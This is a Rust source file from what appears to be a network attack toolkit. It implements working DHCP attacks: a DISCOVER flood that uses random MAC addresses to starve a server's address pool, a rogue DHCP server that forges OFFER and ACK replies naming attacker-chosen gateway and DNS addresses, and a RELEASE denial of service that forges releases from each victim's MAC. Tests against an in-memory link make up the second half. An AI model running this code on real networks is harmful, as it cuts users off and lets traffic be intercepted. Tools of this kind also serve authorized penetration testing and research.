//! DHCP attack implementations
//!
//! Every attack owns a template [`DhcpMessage`] and works on a private clone
//! of it for the whole run, so concurrent runs never share a message.
//!
//! - [`SendRaw`]: send the (edited) template once
//! - [`DiscoverFlood`]: DISCOVER flood from random hardware addresses
//! - [`RogueServer`]: answer DISCOVER/REQUEST with forged OFFER/ACK
//! - [`ReleaseDos`]: release every lease in a range on behalf of its owner
//!
//! # References
//! - RFC 2131 (DHCP), RFC 2132 (options)

use super::frame::{send_message, FailurePolicy};
use super::packet::{DhcpField, DhcpMessage, DhcpMessageType, OptionCode, ServerReply};
use super::tlv::{decode, load_fixed_fields, OptionValue};
use crate::arp::{learn_mac, send_arp_request, LearnBudget};
use leasejack_core::{
    next_packet, Attack, AttackContext, AttackParams, CaptureTimeout, Captured, Error, MacAddr,
    ProtocolFilter, Result,
};
use std::net::Ipv4Addr;
use std::time::Duration;
use tracing::{debug, error, info, warn};

/// Parameter toggling forged Ethernet sources
pub const SPOOF_SOURCE: &str = "spoof_source";

/// Parameter holding `code=value` options for [`SendRaw`]
pub const OPTIONS_PARAM: &str = "options";

pub const DEFAULT_LEASE: u32 = 3600;
pub const DEFAULT_RENEW: u32 = 1800;
pub const DEFAULT_DOMAIN: &str = "localdomain";

/// Whether frames go out from the template's forged MAC (default) or from
/// each interface's own address
pub fn spoof_source(params: &AttackParams) -> bool {
    params.get_bool(SPOOF_SOURCE).unwrap_or(true)
}

/// Replace the options of `msg` with a `code=value,...` list.
///
/// A bare code (`255`) appends a marker option.
pub fn apply_option_list(msg: &mut DhcpMessage, list: &str) -> Result<()> {
    let mut edited = msg.clone();
    edited.set_options(&[])?;

    for item in list.split(',').map(str::trim).filter(|s| !s.is_empty()) {
        let (code, value) = item.split_once('=').unwrap_or((item, ""));
        let code = code
            .trim()
            .parse::<u8>()
            .ok()
            .and_then(OptionCode::from_u8)
            .ok_or_else(|| Error::invalid_parameter(OPTIONS_PARAM, format!("unsupported option '{}'", code)))?;
        let value = OptionValue::parse(code, value)?;
        edited.add_option(code, &value)?;
    }

    *msg = edited;
    Ok(())
}

/// Send the template once, after applying field and option overrides
/// from the parameters
#[derive(Debug, Clone)]
pub struct SendRaw {
    template: DhcpMessage,
}

impl SendRaw {
    pub fn new(template: DhcpMessage) -> Self {
        Self { template }
    }

    fn prepare(&self, params: &AttackParams) -> Result<DhcpMessage> {
        let mut msg = self.template.clone();
        for field in DhcpField::FIXED {
            if let Some(value) = params.get_string(field.name()) {
                msg.update_field(field, value)?;
            }
        }
        if let Some(list) = params.get_string(OPTIONS_PARAM) {
            apply_option_list(&mut msg, list)?;
        }
        Ok(msg)
    }
}

impl Attack for SendRaw {
    fn execute(&self, ctx: AttackContext) -> Result<()> {
        let msg = self.prepare(&ctx.params).map_err(|e| {
            error!(attack = self.name(), error = %e, "Rejected packet overrides");
            e
        })?;

        info!(
            attack = self.name(),
            kind = ?msg.message_type(),
            xid = format_args!("{:08X}", msg.xid),
            "Sending DHCP packet"
        );
        send_message(&ctx, &msg, spoof_source(&ctx.params), FailurePolicy::Continue)
    }

    fn name(&self) -> &str {
        "sending RAW packet"
    }
}

/// DISCOVER flood: each frame comes from a fresh random hardware address
///
/// # Attack Flow
/// 1. Generate a random locally administered MAC
/// 2. Use it as Ethernet source and chaddr of a DISCOVER
/// 3. Send, pause `interval_ms`, repeat until stopped
#[derive(Debug, Clone)]
pub struct DiscoverFlood {
    template: DhcpMessage,
}

impl DiscoverFlood {
    pub fn new(template: DhcpMessage) -> Self {
        Self { template }
    }
}

impl Attack for DiscoverFlood {
    fn execute(&self, ctx: AttackContext) -> Result<()> {
        let spoof = spoof_source(&ctx.params);
        let interval_ms = ctx.params.get_u64("interval_ms").unwrap_or(0);
        let interval = Duration::from_millis(interval_ms);
        let mut msg = self.template.clone();

        info!(attack = self.name(), interval_ms, spoof, "Starting DISCOVER flood");

        while ctx.is_running() {
            let mac = MacAddr::random_local();
            msg.mac_source = mac;
            msg.chaddr = mac;
            msg.prepare_discover();

            send_message(&ctx, &msg, spoof, FailurePolicy::Continue)?;

            if !interval.is_zero() {
                ctx.pause(interval)?;
            }
        }
        Ok(())
    }

    fn name(&self) -> &str {
        "sending DISCOVER packet"
    }
}

/// Addresses handed out by the rogue server, lowest first
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct LeasePool {
    next: u64,
    end: u64,
}

impl LeasePool {
    pub fn new(start: Ipv4Addr, end: Ipv4Addr) -> Self {
        Self {
            next: u64::from(u32::from(start)),
            end: u64::from(u32::from(end)),
        }
    }

    /// Next unallocated address, `None` once the cursor passed the end
    pub fn head(&self) -> Option<Ipv4Addr> {
        (self.next <= self.end).then(|| Ipv4Addr::from(self.next as u32))
    }

    pub fn advance(&mut self) {
        self.next += 1;
    }

    pub fn is_exhausted(&self) -> bool {
        self.head().is_none()
    }
}

/// Rogue server configuration, read from the parameter table
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RogueConfig {
    pub start: Ipv4Addr,
    pub end: Ipv4Addr,
    pub server: Ipv4Addr,
    pub router: Ipv4Addr,
    pub dns: Ipv4Addr,
    pub subnet: Ipv4Addr,
    pub lease: u32,
    pub renew: u32,
    pub domain: String,
}

impl RogueConfig {
    /// Router and DNS default to the server itself
    pub fn from_params(params: &AttackParams) -> Result<Self> {
        let server = params.require_ipv4("server")?;
        let domain = params.get_string("domain").unwrap_or(DEFAULT_DOMAIN).to_string();
        if domain.is_empty() || domain.len() > usize::from(u8::MAX) {
            return Err(Error::invalid_parameter("domain", "must be 1 to 255 bytes"));
        }

        Ok(Self {
            start: params.require_ipv4("start_ip")?,
            end: params.require_ipv4("end_ip")?,
            server,
            router: params.get_ipv4("router").unwrap_or(server),
            dns: params.get_ipv4("dns").unwrap_or(server),
            subnet: params.get_ipv4("subnet").unwrap_or(Ipv4Addr::new(255, 255, 255, 0)),
            lease: params.get_u32("lease").unwrap_or(DEFAULT_LEASE),
            renew: params.get_u32("renew").unwrap_or(DEFAULT_RENEW),
            domain,
        })
    }
}

/// What a captured client message asks the rogue server for
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
struct Trigger {
    kind: DhcpMessageType,
    xid: u32,
    client: MacAddr,
}

/// Recognise DISCOVER and REQUEST by the numeric MessageType option
fn classify(frame: &[u8]) -> Result<Option<Trigger>> {
    let kind = match decode(frame)?.message_type()? {
        Some(1) => DhcpMessageType::Discover,
        Some(3) => DhcpMessageType::Request,
        _ => return Ok(None),
    };
    let observed = load_fixed_fields(frame)?;
    Ok(Some(Trigger {
        kind,
        xid: observed.xid,
        client: observed.mac_source,
    }))
}

/// Rogue DHCP server
///
/// Answers every DISCOVER with an OFFER and every REQUEST with an ACK for
/// the pool head. Only a REQUEST consumes the address. The run ends once
/// the pool is exhausted.
#[derive(Debug, Clone)]
pub struct RogueServer {
    template: DhcpMessage,
}

impl RogueServer {
    pub fn new(template: DhcpMessage) -> Self {
        Self { template }
    }
}

impl Attack for RogueServer {
    fn execute(&self, ctx: AttackContext) -> Result<()> {
        let config = RogueConfig::from_params(&ctx.params)?;
        let spoof = spoof_source(&ctx.params);
        let mut pool = LeasePool::new(config.start, config.end);
        let mut msg = self.template.clone();

        info!(
            attack = self.name(),
            server = %config.server,
            start = %config.start,
            end = %config.end,
            "Rogue DHCP server listening"
        );

        while ctx.is_running() {
            let Some(your_ip) = pool.head() else {
                info!(attack = self.name(), "Address pool exhausted");
                break;
            };

            let packet = match next_packet(
                &ctx.interfaces,
                ProtocolFilter::Dhcp,
                &ctx.running,
                CaptureTimeout::Never,
            )? {
                Captured::Packet(packet) => packet,
                Captured::Timeout => continue,
                Captured::Cancelled => break,
            };
            ctx.stats.increment_packets_received();

            let trigger = match classify(packet.data()) {
                Ok(Some(trigger)) => trigger,
                Ok(None) => continue,
                Err(e) => {
                    warn!(interface = %packet.interface, error = %e, "Skipping malformed DHCP packet");
                    ctx.stats.increment_errors();
                    continue;
                }
            };

            let kind = match trigger.kind {
                DhcpMessageType::Discover => DhcpMessageType::Offer,
                _ => DhcpMessageType::Ack,
            };
            msg.prepare_server_reply(&ServerReply {
                kind,
                server: config.server,
                router: config.router,
                your_ip,
                xid: trigger.xid,
                client_mac: trigger.client,
                lease: config.lease,
                renew: config.renew,
                subnet: config.subnet,
                dns: config.dns,
                domain: &config.domain,
            })?;

            send_message(&ctx, &msg, spoof, FailurePolicy::Continue)?;
            info!(
                attack = self.name(),
                reply = %kind,
                ip = %your_ip,
                client = %trigger.client,
                xid = format_args!("{:08X}", trigger.xid),
                "Answered client"
            );

            if trigger.kind == DhcpMessageType::Request {
                pool.advance();
            }
        }
        Ok(())
    }

    fn name(&self) -> &str {
        "creating DHCP rogue server"
    }
}

/// Release DoS configuration, read from the parameter table
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct ReleaseConfig {
    pub start: Ipv4Addr,
    pub end: Ipv4Addr,
    pub server: Ipv4Addr,
    /// Sender protocol address of our ARP requests
    pub client_ip: Ipv4Addr,
    pub settle: Duration,
    pub budget: LearnBudget,
}

impl ReleaseConfig {
    pub fn from_params(params: &AttackParams) -> Result<Self> {
        let defaults = LearnBudget::default();
        let millis = |key: &str, default: Duration| {
            params
                .get_u64(key)
                .map(Duration::from_millis)
                .unwrap_or(default)
        };

        Ok(Self {
            start: params.require_ipv4("start_ip")?,
            end: params.require_ipv4("end_ip")?,
            server: params.require_ipv4("server")?,
            client_ip: params.get_ipv4("client_ip").unwrap_or(Ipv4Addr::UNSPECIFIED),
            settle: millis("settle_ms", Duration::ZERO),
            budget: LearnBudget {
                attempts: params.get_u32("arp_attempts").unwrap_or(defaults.attempts),
                interval: millis("arp_interval_ms", defaults.interval),
                timeout: millis("arp_timeout_ms", defaults.timeout),
            },
        })
    }
}

/// Send a RELEASE of `victim_ip` forged from `victim_mac` to the server.
///
/// The message's source MAC is put back afterwards, whether or not the send
/// succeeded.
pub fn send_release(
    ctx: &AttackContext,
    msg: &mut DhcpMessage,
    spoof: bool,
    server: (Ipv4Addr, MacAddr),
    victim: (Ipv4Addr, MacAddr),
) -> Result<()> {
    let saved = msg.mac_source;

    msg.prepare_release(server.0, server.1, victim.0, victim.1);
    msg.mac_source = victim.1;
    let result = send_message(ctx, msg, spoof, FailurePolicy::Abort);
    msg.mac_source = saved;

    result
}

/// Release every lease in `[start_ip, end_ip]` on behalf of its holder
///
/// # Attack Flow
/// 1. Learn the server's MAC over ARP (fatal on failure)
/// 2. For each address: learn the holder's MAC (skip on failure)
/// 3. Unicast a RELEASE to the server forged from the holder
#[derive(Debug, Clone)]
pub struct ReleaseDos {
    template: DhcpMessage,
}

impl ReleaseDos {
    pub fn new(template: DhcpMessage) -> Self {
        Self { template }
    }
}

impl Attack for ReleaseDos {
    fn execute(&self, ctx: AttackContext) -> Result<()> {
        let config = ReleaseConfig::from_params(&ctx.params)?;
        let spoof = spoof_source(&ctx.params);
        let mut msg = self.template.clone();
        let forged = msg.mac_source;

        info!(
            attack = self.name(),
            server = %config.server,
            start = %config.start,
            end = %config.end,
            "Starting RELEASE DoS"
        );

        send_arp_request(&ctx, forged, spoof, config.client_ip, config.server)?;
        let server_mac = learn_mac(&ctx, forged, spoof, config.server, config.budget)
            .map_err(|e| {
                if !e.is_cancelled() {
                    error!(server = %config.server, error = %e, "Could not learn the server MAC");
                }
                e
            })?;
        info!(server = %config.server, mac = %server_mac, "Server MAC learned");

        if !config.settle.is_zero() {
            ctx.pause(config.settle)?;
        }

        for raw in u32::from(config.start)..=u32::from(config.end) {
            if !ctx.is_running() {
                break;
            }
            let victim = Ipv4Addr::from(raw);

            send_arp_request(&ctx, forged, spoof, config.client_ip, victim)?;
            let victim_mac = match learn_mac(&ctx, forged, spoof, victim, config.budget) {
                Ok(mac) => mac,
                Err(Error::Cancelled) => return Err(Error::Cancelled),
                Err(e) => {
                    warn!(ip = %victim, error = %e, "No ARP reply, skipping address");
                    continue;
                }
            };
            debug!(ip = %victim, mac = %victim_mac, "Victim MAC learned");

            send_release(
                &ctx,
                &mut msg,
                spoof,
                (config.server, server_mac),
                (victim, victim_mac),
            )?;
            info!(ip = %victim, mac = %victim_mac, "RELEASE sent");
        }
        Ok(())
    }

    fn name(&self) -> &str {
        "sending RELEASE packet"
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::dhcp::frame::build_frame;
    use crate::dhcp::packet::{BOOTREPLY, RELEASE_OPTIONS_LEN};
    use crate::dhcp::tlv::find_message_type;
    use leasejack_core::{
        AttackPhase, AttackStatsCounters, Interface, MemoryLink, PacketCounters, PhaseSignal,
    };
    use leasejack_packet::{ArpOperation, ArpPacket, EtherType, PacketBuilder};
    use std::sync::atomic::{AtomicBool, Ordering};
    use std::sync::Arc;
    use std::time::Instant;
    use tokio::sync::watch;

    const IFACE_MAC: MacAddr = MacAddr::new([0x00, 0x0c, 0x29, 0x00, 0x00, 0x01]);
    const CLIENT_MAC: MacAddr = MacAddr::new([0xAA, 0xBB, 0xCC, 0xDD, 0xEE, 0xFF]);
    const SERVER: Ipv4Addr = Ipv4Addr::new(10, 0, 0, 254);
    const SERVER_MAC: MacAddr = MacAddr::new([0x00, 0x50, 0x56, 0x00, 0x00, 0xfe]);

    fn context(
        link: Arc<MemoryLink>,
        params: AttackParams,
    ) -> (AttackContext, watch::Receiver<AttackPhase>) {
        let (signal, rx) = PhaseSignal::channel();
        let ctx = AttackContext::new(
            vec![Interface::new("mem0", 0, IFACE_MAC, link)],
            params,
            Arc::new(AtomicBool::new(true)),
            Arc::new(AttackStatsCounters::default()),
            Arc::new(PacketCounters::new()),
            signal,
        );
        (ctx, rx)
    }

    fn client_frame(kind: DhcpMessageType, xid: u32) -> Vec<u8> {
        let mut msg = DhcpMessage::discover();
        msg.xid = xid;
        msg.mac_source = CLIENT_MAC;
        msg.chaddr = CLIENT_MAC;
        if kind == DhcpMessageType::Request {
            msg.prepare_request(SERVER, Ipv4Addr::new(10, 0, 0, 10));
        }
        build_frame(&msg, CLIENT_MAC).unwrap()
    }

    fn rogue_params(start: [u8; 4], end: [u8; 4]) -> AttackParams {
        AttackParams::new()
            .set("start_ip", Ipv4Addr::from(start))
            .set("end_ip", Ipv4Addr::from(end))
            .set("server", SERVER)
            .set("domain", "evil.lan")
    }

    fn dhcp_frames(link: &MemoryLink) -> Vec<DhcpMessage> {
        link.sent_frames()
            .iter()
            .filter(|f| ProtocolFilter::Dhcp.matches(f))
            .map(|f| load_fixed_fields(f).unwrap())
            .collect()
    }

    #[test]
    fn test_lease_pool_cursor() {
        let mut pool = LeasePool::new(Ipv4Addr::new(10, 0, 0, 254), Ipv4Addr::new(10, 0, 1, 0));
        assert_eq!(pool.head(), Some(Ipv4Addr::new(10, 0, 0, 254)));
        pool.advance();
        pool.advance();
        assert_eq!(pool.head(), Some(Ipv4Addr::new(10, 0, 1, 0)));
        pool.advance();
        assert!(pool.is_exhausted());

        let mut top = LeasePool::new(Ipv4Addr::BROADCAST, Ipv4Addr::BROADCAST);
        top.advance();
        assert!(top.is_exhausted());

        assert!(LeasePool::new(Ipv4Addr::new(10, 0, 0, 2), Ipv4Addr::new(10, 0, 0, 1)).is_exhausted());
    }

    #[test]
    fn test_option_list() {
        let mut msg = DhcpMessage::discover();
        apply_option_list(&mut msg, "53=3, 50=10.0.0.7 ,12=host,255").unwrap();
        assert_eq!(
            msg.options(),
            &[53, 1, 3, 50, 4, 10, 0, 0, 7, 12, 4, b'h', b'o', b's', b't', 255]
        );

        let before = msg.clone();
        assert!(apply_option_list(&mut msg, "53=3,61=x").is_err());
        assert!(apply_option_list(&mut msg, "51=forever").is_err());
        assert_eq!(msg, before);
    }

    #[test]
    fn test_send_raw_applies_overrides() {
        let link = Arc::new(MemoryLink::new());
        let params = AttackParams::new()
            .set("xid", "DEADBEEF")
            .set("dip", "10.0.0.1")
            .set("options", "53=8,255")
            .set(SPOOF_SOURCE, false);
        let (ctx, rx) = context(link.clone(), params);

        SendRaw::new(DhcpMessage::discover()).execute(ctx).unwrap();

        let sent = dhcp_frames(&link);
        assert_eq!(sent.len(), 1);
        assert_eq!(sent[0].xid, 0xDEADBEEF);
        assert_eq!(sent[0].dip, Ipv4Addr::new(10, 0, 0, 1));
        assert_eq!(sent[0].mac_source, IFACE_MAC);
        assert_eq!(sent[0].options(), &[53, 1, 8, 255]);
        assert_eq!(*rx.borrow(), AttackPhase::Finished);
    }

    #[test]
    fn test_send_raw_rejects_bad_field() {
        let link = Arc::new(MemoryLink::new());
        let params = AttackParams::new().set("op", "zz");
        let (ctx, _rx) = context(link.clone(), params);

        let result = SendRaw::new(DhcpMessage::discover()).execute(ctx);
        assert!(matches!(result, Err(Error::InvalidParameter { .. })));
        assert_eq!(link.sent_count(), 0);
    }

    #[test]
    fn test_discover_flood_until_stopped() {
        let link = Arc::new(MemoryLink::new());
        let params = AttackParams::new().set("interval_ms", 1u64);
        let (ctx, rx) = context(link.clone(), params);
        let running = ctx.running.clone();

        let worker = std::thread::spawn(move || DiscoverFlood::new(DhcpMessage::discover()).execute(ctx));
        while link.sent_count() < 3 {
            std::thread::sleep(Duration::from_millis(1));
        }
        running.store(false, Ordering::Relaxed);
        let result = worker.join().unwrap();
        assert!(matches!(result, Ok(()) | Err(Error::Cancelled)));
        assert_eq!(*rx.borrow(), AttackPhase::Finished);

        let sent = dhcp_frames(&link);
        for msg in &sent {
            assert_eq!(msg.options(), &[53, 1, 1, 255]);
            assert_eq!(msg.dip, Ipv4Addr::BROADCAST);
            assert_eq!(msg.sip, Ipv4Addr::UNSPECIFIED);
            assert_eq!(msg.chaddr, msg.mac_source);
            assert_eq!(msg.mac_source.0[0] & 0x03, 0x02);
        }
        assert_ne!(sent[0].chaddr, sent[1].chaddr);
    }

    #[test]
    fn test_discover_flood_with_huge_interval() {
        let link = Arc::new(MemoryLink::new());
        let params = AttackParams::new().set("interval_ms", u64::MAX);
        let (ctx, rx) = context(link.clone(), params);
        let running = ctx.running.clone();

        let worker = std::thread::spawn(move || DiscoverFlood::new(DhcpMessage::discover()).execute(ctx));
        while link.sent_count() < 1 {
            std::thread::sleep(Duration::from_millis(1));
        }
        std::thread::sleep(Duration::from_millis(50));
        running.store(false, Ordering::Relaxed);

        let result = worker.join().unwrap();
        assert!(matches!(result, Err(Error::Cancelled)));
        assert_eq!(link.sent_count(), 1);
        assert_eq!(*rx.borrow(), AttackPhase::Finished);
    }

    #[test]
    fn test_discover_flood_stops_on_send_failure() {
        let link = Arc::new(MemoryLink::new());
        link.set_fail_sends(true);
        let (ctx, rx) = context(link, AttackParams::new());

        let result = DiscoverFlood::new(DhcpMessage::discover()).execute(ctx);
        assert!(matches!(result, Err(Error::LinkLayer(_))));
        assert_eq!(*rx.borrow(), AttackPhase::Finished);
    }

    #[test]
    fn test_rogue_offer_then_ack() {
        let link = Arc::new(MemoryLink::new());
        link.push_inbound(client_frame(DhcpMessageType::Discover, 0xAABBCCDD));
        link.push_inbound(client_frame(DhcpMessageType::Request, 0xAABBCCDD));
        let (ctx, rx) = context(link.clone(), rogue_params([10, 0, 0, 10], [10, 0, 0, 10]));

        RogueServer::new(DhcpMessage::discover()).execute(ctx).unwrap();
        assert_eq!(*rx.borrow(), AttackPhase::Finished);

        let sent = dhcp_frames(&link);
        assert_eq!(sent.len(), 2);

        let offer = &sent[0];
        assert_eq!(offer.op, BOOTREPLY);
        assert_eq!(offer.xid, 0xAABBCCDD);
        assert_eq!(offer.yiaddr, Ipv4Addr::new(10, 0, 0, 10));
        assert_eq!(offer.chaddr, CLIENT_MAC);
        assert_eq!(offer.sip, SERVER);
        assert_eq!(offer.siaddr, SERVER);
        assert_eq!(offer.dip, Ipv4Addr::BROADCAST);
        assert_eq!((offer.sport, offer.dport), (67, 68));
        assert_eq!(&offer.options()[..3], &[53, 1, 0x02]);
        assert_eq!(offer.options_len(), 42 + "evil.lan".len());

        let ack = &sent[1];
        assert_eq!(find_message_type(ack.options()), Some(DhcpMessageType::Ack));
        assert_eq!(ack.yiaddr, Ipv4Addr::new(10, 0, 0, 10));
    }

    #[test]
    fn test_rogue_pool_monotonic() {
        let link = Arc::new(MemoryLink::new());
        for xid in 1..=3 {
            link.push_inbound(client_frame(DhcpMessageType::Request, xid));
        }
        // must never be answered: the pool is gone by then
        link.push_inbound(client_frame(DhcpMessageType::Request, 4));
        let (ctx, _rx) = context(link.clone(), rogue_params([10, 0, 0, 10], [10, 0, 0, 12]));

        RogueServer::new(DhcpMessage::discover()).execute(ctx).unwrap();

        let handed_out: Vec<(u32, Ipv4Addr)> =
            dhcp_frames(&link).iter().map(|m| (m.xid, m.yiaddr)).collect();
        assert_eq!(
            handed_out,
            vec![
                (1, Ipv4Addr::new(10, 0, 0, 10)),
                (2, Ipv4Addr::new(10, 0, 0, 11)),
                (3, Ipv4Addr::new(10, 0, 0, 12)),
            ]
        );
    }

    #[test]
    fn test_rogue_skips_garbage_and_other_types() {
        let link = Arc::new(MemoryLink::new());
        let mut garbage = client_frame(DhcpMessageType::Discover, 9);
        let options_at = garbage.len() - 4;
        garbage[options_at + 1] = 0;
        link.push_inbound(garbage);

        let mut inform = DhcpMessage::discover();
        inform.prepare_inform();
        link.push_inbound(build_frame(&inform, CLIENT_MAC).unwrap());
        link.push_inbound(client_frame(DhcpMessageType::Request, 7));
        let (ctx, _rx) = context(link.clone(), rogue_params([10, 0, 0, 10], [10, 0, 0, 10]));
        let stats = ctx.stats.clone();

        RogueServer::new(DhcpMessage::discover()).execute(ctx).unwrap();

        let sent = dhcp_frames(&link);
        assert_eq!(sent.len(), 1);
        assert_eq!(sent[0].xid, 7);
        assert_eq!(stats.errors.load(Ordering::Relaxed), 1);
        assert_eq!(stats.packets_received.load(Ordering::Relaxed), 3);
    }

    #[test]
    fn test_rogue_cancelled_while_listening() {
        let link = Arc::new(MemoryLink::new());
        let (ctx, rx) = context(link, rogue_params([10, 0, 0, 10], [10, 0, 0, 20]));
        let running = ctx.running.clone();

        let worker = std::thread::spawn(move || RogueServer::new(DhcpMessage::discover()).execute(ctx));
        std::thread::sleep(Duration::from_millis(120));
        running.store(false, Ordering::Relaxed);

        assert!(worker.join().unwrap().is_ok());
        assert_eq!(*rx.borrow(), AttackPhase::Finished);
    }

    #[test]
    fn test_rogue_config_defaults() {
        let config = RogueConfig::from_params(
            &AttackParams::new()
                .set("start_ip", "10.0.0.10")
                .set("end_ip", "10.0.0.20")
                .set("server", "10.0.0.1"),
        )
        .unwrap();
        assert_eq!(config.router, Ipv4Addr::new(10, 0, 0, 1));
        assert_eq!(config.dns, Ipv4Addr::new(10, 0, 0, 1));
        assert_eq!(config.lease, DEFAULT_LEASE);
        assert_eq!(config.domain, DEFAULT_DOMAIN);

        let missing = RogueConfig::from_params(&AttackParams::new().set("server", "10.0.0.1"));
        assert!(matches!(missing, Err(Error::InvalidParameter { .. })));
        let long = rogue_params([10, 0, 0, 1], [10, 0, 0, 2]).set("domain", "d".repeat(300));
        assert!(RogueConfig::from_params(&long).is_err());
    }

    fn arp_responder(known: Vec<(Ipv4Addr, MacAddr)>) -> MemoryLink {
        MemoryLink::new().with_responder(move |frame| {
            if frame.get(12..14)? != [0x08, 0x06] {
                return None;
            }
            let body = ArpPacket::parse(frame.get(14..)?).ok()?;
            if body.operation != ArpOperation::Request {
                return None;
            }
            let (ip, mac) = known.iter().find(|(ip, _)| *ip == body.target_ip)?;
            PacketBuilder::new()
                .ethernet(*mac, body.sender_hw, EtherType::ARP)
                .arp(ArpPacket::reply(*mac, *ip, body.sender_hw, body.sender_ip))
                .build()
                .ok()
        })
    }

    fn release_params() -> AttackParams {
        AttackParams::new()
            .set("start_ip", "10.0.0.10")
            .set("end_ip", "10.0.0.12")
            .set("server", SERVER)
            .set("client_ip", "10.0.0.99")
            .set("arp_attempts", 3u32)
            .set("arp_interval_ms", 1u64)
            .set("arp_timeout_ms", 50u64)
    }

    #[test]
    fn test_release_dos_walks_range() {
        let victim_a = MacAddr::new([0x00, 0x0c, 0x29, 0xaa, 0x00, 0x0a]);
        let victim_b = MacAddr::new([0x00, 0x0c, 0x29, 0xaa, 0x00, 0x0b]);
        let link = Arc::new(arp_responder(vec![
            (SERVER, SERVER_MAC),
            (Ipv4Addr::new(10, 0, 0, 10), victim_a),
            (Ipv4Addr::new(10, 0, 0, 11), victim_b),
        ]));
        let template = DhcpMessage::discover();
        let (ctx, rx) = context(link.clone(), release_params());

        ReleaseDos::new(template).execute(ctx).unwrap();
        assert_eq!(*rx.borrow(), AttackPhase::Finished);

        let releases = dhcp_frames(&link);
        assert_eq!(releases.len(), 2);
        for (msg, (ip, mac)) in releases.iter().zip([
            (Ipv4Addr::new(10, 0, 0, 10), victim_a),
            (Ipv4Addr::new(10, 0, 0, 11), victim_b),
        ]) {
            assert_eq!(msg.mac_source, mac);
            assert_eq!(msg.mac_dest, SERVER_MAC);
            assert_eq!(msg.chaddr, mac);
            assert_eq!(msg.ciaddr, ip);
            assert_eq!(msg.sip, ip);
            assert_eq!(msg.dip, SERVER);
            assert_eq!(msg.options(), &[53, 1, 7, 54, 4, 10, 0, 0, 254, 255]);
        }
    }

    #[test]
    fn test_release_dos_fails_without_server() {
        let link = Arc::new(arp_responder(Vec::new()));
        let (ctx, rx) = context(link.clone(), release_params());

        let result = ReleaseDos::new(DhcpMessage::discover()).execute(ctx);
        assert!(matches!(result, Err(Error::ArpTimeout(ip)) if ip == SERVER));
        assert!(dhcp_frames(&link).is_empty());
        assert_eq!(*rx.borrow(), AttackPhase::Finished);
    }

    #[test]
    fn test_send_release_restores_source_mac() {
        let link = Arc::new(MemoryLink::new());
        let (ctx, _rx) = context(link.clone(), AttackParams::new());
        let mut msg = DhcpMessage::discover();
        let original = msg.mac_source;
        let victim = (Ipv4Addr::new(10, 0, 0, 10), CLIENT_MAC);

        send_release(&ctx, &mut msg, true, (SERVER, SERVER_MAC), victim).unwrap();
        assert_eq!(msg.mac_source, original);
        let frames = link.sent_frames();
        let frame = &frames[0];
        assert_eq!(&frame[6..12], CLIENT_MAC.as_bytes());
        assert_eq!(frame.len(), 14 + 20 + 8 + 240 + RELEASE_OPTIONS_LEN);

        link.set_fail_sends(true);
        let result = send_release(&ctx, &mut msg, true, (SERVER, SERVER_MAC), victim);
        assert!(result.is_err());
        assert_eq!(msg.mac_source, original);
    }

    #[test]
    fn test_release_cancelled_during_learning() {
        let link = Arc::new(MemoryLink::new());
        let params = release_params()
            .set("arp_attempts", 500u32)
            .set("arp_timeout_ms", 5_000u64);
        let (ctx, rx) = context(link, params);
        let running = ctx.running.clone();

        let worker = std::thread::spawn(move || ReleaseDos::new(DhcpMessage::discover()).execute(ctx));
        std::thread::sleep(Duration::from_millis(100));
        let stopped = Instant::now();
        running.store(false, Ordering::Relaxed);

        let result = worker.join().unwrap();
        assert!(matches!(result, Err(Error::Cancelled)));
        assert!(stopped.elapsed() < Duration::from_secs(1));
        assert_eq!(*rx.borrow(), AttackPhase::Finished);
    }
}
